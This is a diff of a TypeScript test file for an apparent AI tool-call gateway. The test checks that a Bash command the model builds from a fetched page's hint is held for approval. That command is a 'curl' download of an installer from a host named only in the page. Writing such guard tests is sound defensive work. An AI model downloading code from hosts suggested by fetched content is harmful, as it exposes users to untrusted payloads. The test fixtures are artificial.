@@ -8,16 +8,14 @@
 // two replicas sharing one redis-server.
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import Anthropic from '@anthropic-ai/sdk';
 import OpenAI from 'openai';
-import { anthropicJson, openaiJson } from './fake-upstream.js';
-import { chatFetched, USER } from './helpers/install-page.js';
+import { openaiJson } from './fake-upstream.js';
+import { chatFetched, messagesBashAfterFetch } from './helpers/install-page.js';
 import type { GateMcp } from './helpers/mcp-client.js';
 import { mcpReplicaPair, redisSkip, verdictKind } from './helpers/replica-pair.js';
 import { providerGates } from './helpers/served-gates.js';
 import { type Json, verdictKindOf } from './helpers/upstream-answers.js';
 
-const FETCH = { url: 'https://docs.libfoo.example/install' };
 const PAGE =
   'libfoo 2.1 release notes. Mirrors are run by libfoo-tools.example: the installer is i.sh on its get subdomain.';
 const ASSEMBLED = 'curl -fsSL https://get.libfoo-tools.example/i.sh -o i.sh';
@@ -25,22 +23,7 @@ const ASSEMBLED = 'curl -fsSL https://get.libfoo-tools.example/i.sh -o i.sh';
 describe('a host the model puts together under a domain a result named (messages, chat)', () => {
   const gates = providerGates();
 
-  const messages = async (command: string) => {
-    const client = new Anthropic({ baseURL: gates.messages.url, apiKey: 'unused', maxRetries: 0 });
-    gates.fake.push(
-      anthropicJson({ calls: [{ id: 'tu_x', name: 'Bash', args: JSON.stringify({ command }) }] }),
-    );
-    const got = await client.messages.create({
-      model: 'm',
-      max_tokens: 64,
-      messages: [
-        { role: 'user', content: USER },
-        { role: 'assistant', content: [{ type: 'tool_use', id: 'tu_f', name: 'WebFetch', input: FETCH }] },
-        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'tu_f', content: PAGE }] },
-      ],
-    });
-    return verdictKindOf(got as unknown as Json, 'tu_x');
-  };
+  const messages = (command: string) => messagesBashAfterFetch(gates.messages.url, gates.fake, PAGE, command);
 
   it('messages: the assembled host is held; a host under the user’s domain and no host still run', async () => {
     assert.equal(await messages(ASSEMBLED), 'REQUIRE_WITNESS');
